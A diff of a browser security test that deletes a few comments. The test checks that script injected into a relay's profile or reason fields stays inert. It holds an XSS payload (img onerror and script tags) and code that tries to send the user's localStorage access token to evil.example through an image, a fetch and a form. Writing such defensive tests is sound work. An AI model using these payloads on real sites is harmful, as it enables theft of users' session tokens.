@@ -5,8 +5,6 @@ import { openBrowser } from '../../dev/browser.ts'
 import { callRelay, claimByCalls } from '../support/calls.ts'
 import { newOperator, type RelayProcess, startRelay } from '../support/world.ts'
 
-/** Attacks on signed-in users, in the browser against the real relay. */
-
 const operator = newOperator()
 const script = `<img src=x onerror="document.title='owned'"><script>document.title='owned'</script>`
 
@@ -79,7 +77,6 @@ test('token theft by a script in a profile or a reason: it is shown as text, on 
   await page.goto(`${relay.adminUrl}/auth/lock`)
   await page.getByText(script).filter({ visible: true }).first().waitFor()
   expect(await page.title()).not.toBe('owned')
-  // As if it had entered the page as markup after all.
   const refused = await page.evaluate(
     markup =>
       new Promise<string[]>(resolve => {
@@ -96,7 +93,6 @@ test('token theft by a script in a profile or a reason: it is shown as text, on 
         const foreign = document.createElement('img')
         foreign.src = `https://evil.example/?${localStorage.getItem('accessToken')}`
         place.append(foreign)
-        // The ways in which a script could send data, had one run.
         fetch(foreign.src).catch(() => undefined)
         const form = document.createElement('form')
         form.action = foreign.src
